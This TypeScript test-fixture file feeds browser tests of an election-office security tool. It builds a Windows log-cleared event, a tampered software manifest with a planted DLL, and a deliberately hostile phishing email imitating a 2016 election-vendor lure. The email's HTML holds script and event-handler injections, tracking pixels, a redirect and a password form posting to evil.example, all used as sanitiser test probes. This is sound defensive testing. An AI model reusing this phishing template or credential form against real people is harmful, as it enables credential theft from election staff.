/** What an office has beside its website, for tests in a browser: events of a Windows machine, a mail that is as hostile as a
 *  mail can be, and lists of the software of a machine that somebody has tampered with. */
import { mkdir, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { runSoftware } from '../../src/cli/software.ts'
import { SoftwareShelf } from '../../src/sources/tree/shelf.ts'
import { ask, send, type Visitor } from './browser.ts'
import type { DeskProcess } from './desk-process.ts'

/** A line of Windows' own log, as it is exported: the log was cleared. */
export const clearedLog = (atMs: number): string =>
  `${JSON.stringify({
    System: {
      Provider: { Name: 'Microsoft-Windows-Eventlog' },
      EventID: 1102,
      TimeCreated: { SystemTime: new Date(atMs).toISOString() },
      Channel: 'Security',
      Computer: 'EMS01',
    },
    EventData: { SubjectUserName: 'pat' },
  })}\n`

const hostileHtml = `<html><head><style>body { background: url(https://track.example/a) }</style>
<meta http-equiv="refresh" content="0; url=https://evil.example"></head><body onload="parent.broken = 1">
<p>Dear clerk, read the new <b>EViD User Guides</b> of VR Systems before Election Day.</p>
<img src="https://track.example/pixel.gif" onerror="parent.broken = 1" width="1">
<script>parent.broken = 1</script><svg onload="parent.broken = 1"></svg>
<a href="https://evil.example/login">https://www.vrsystems.com/guides</a>
<form action="https://evil.example/take"><input name="password" value="your password"><button>Sign in</button></form>
<iframe src="https://evil.example"></iframe><object data="https://evil.example"></object>
</body></html>`

/** The mail of 2016 in short, with everything that a browser could be made to do in it. */
export function hostileMail(atMs: number, to: string): string {
  const date = new Date(atMs).toUTCString().replace('GMT', '+0000')
  return [
    `Received: from mail.example (mail.example [203.0.113.9]) by mx.marlow.example with ESMTPS id 1; ${date}`,
    'From: "VR Systems \u202e" <vr.elections@gmail.com>',
    `To: ${to}`,
    'Subject: New EViD User Guides <script>parent.broken = 1</script>',
    `Date: ${date}`,
    `Message-ID: <${to.length}${atMs}@mail.example>`,
    'MIME-Version: 1.0',
    'Content-Type: multipart/alternative; boundary=b',
    '',
    '--b',
    'Content-Type: text/plain; charset=utf-8',
    '',
    'Dear clerk, read the new EViD User Guides of VR Systems before Election Day: https://evil.example/login',
    '--b',
    'Content-Type: text/html; charset=utf-8',
    '',
    hostileHtml,
    '--b--',
    '',
  ].join('\r\n')
}

/** Puts a file in by hand, as the page of sources does. */
export async function upload(visitor: Visitor, name: string, text: string): Promise<number> {
  const { origin } = new URL(visitor.page.url())
  const { csrfToken = '' } = await ask<{ readonly csrfToken?: string }>(visitor, '/api/session')
  const answer = await visitor.page.request.post(`${origin}/api/uploads`, {
    headers: { 'x-bellwether-csrf': csrfToken, origin },
    multipart: { file: { name, mimeType: 'application/octet-stream', buffer: Buffer.from(text) } },
  })
  return answer.status()
}

/** Brings two lists of a machine's software: the first is kept as the baseline, the second differs. Gives the folder's id. */
export async function bringSoftware(visitor: Visitor, desk: DeskProcess): Promise<string> {
  const build = join(desk.folder, 'build')
  const shelf = new SoftwareShelf(join(desk.dataPath, 'software'))
  const list = async (name: string): Promise<void> => {
    const said: string[] = []
    const io = {
      print: (text: string) => said.push(text),
      complain: (text: string) => said.push(text),
      progress: () => undefined,
      columns: 80,
      homeFolder: desk.folder,
      hostName: 'EMS01',
      nowMs: Date.now(),
    }
    const outPath = join(desk.folder, name)
    const code = await runSoftware({ name: 'baseline', folder: build, outPath, patterns: ['logs/'] } as never, io)
    if (code !== 0 || !(await shelf.take(outPath)).ok) throw new Error(said.join(''))
  }
  await mkdir(join(build, 'logs'), { recursive: true })
  await writeFile(join(build, 'tabulate.exe'), 'MZ trusted')
  await list('first.manifest')
  interface Listed {
    readonly folders: readonly { readonly id: string; readonly latest?: { readonly sha256: string } }[]
  }
  const [folder] = (await ask<Listed>(visitor, '/api/software')).folders
  const kept = await send(visitor, 'POST', `/api/software/${folder?.id}/keep`, { sha256: folder?.latest?.sha256 })
  if (folder === undefined || kept.status !== 200) throw new Error(kept.text)
  await writeFile(join(build, 'tabulate.exe'), 'MZ changed')
  await writeFile(join(build, 'planted.dll'), 'MZ planted')
  await writeFile(join(build, 'logs', 'today.log'), 'a line')
  await list('second.manifest')
  return folder.id
}
